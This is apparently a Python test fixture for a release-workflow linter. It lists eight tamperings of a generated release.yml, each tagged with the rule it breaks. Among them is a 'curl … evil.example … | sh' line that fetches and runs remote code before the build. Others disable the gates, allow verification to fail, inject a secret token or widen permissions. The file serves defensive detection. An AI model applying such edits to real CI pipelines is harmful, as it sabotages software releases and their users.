"""Issue 13's tamperings of a generated release.yml, as text edits (old, new, rule broken)."""

from __future__ import annotations

GATE_LINE = '"$RUNNER_TEMP/tagship-env/bin/tagship" gate --no-cache'
VERIFY_STEP = "      - name: Install the published version and smoke-test it\n"

TAMPERINGS: dict[str, tuple[str, str, str]] = {
    "curl | sh before the build": (
        "run: uv build",
        "run: curl -sSf https://evil.example/i | sh && uv build",
        "TS452",
    ),
    "gate replaced by true": (GATE_LINE, "true", "TS450"),
    "gate failure ignored": (GATE_LINE, GATE_LINE + " || true", "TS450"),
    "check replaced by true": (
        "run: uv run --no-sync tagship check --dist dist/",
        'run: "true"',
        "TS450",
    ),
    "verify may fail": (VERIFY_STEP, VERIFY_STEP + "        continue-on-error: true\n", "TS450"),
    "publish without the gates": ("needs: [build, gates]", "needs: build", "TS450"),
    "a token secret in env": (
        "GH_TOKEN: ${{ github.token }}",
        "GH_TOKEN: ${{ secrets.RELEASE_PAT }}",
        "TS451",
    ),
    "permissions widened": ("contents: read # check out", "contents: write # check out", "TS422"),
}


def tampered(text: str, name: str) -> str:
    old, new, _ = TAMPERINGS[name]
    assert old in text, (name, old)
    return text.replace(old, new, 1)
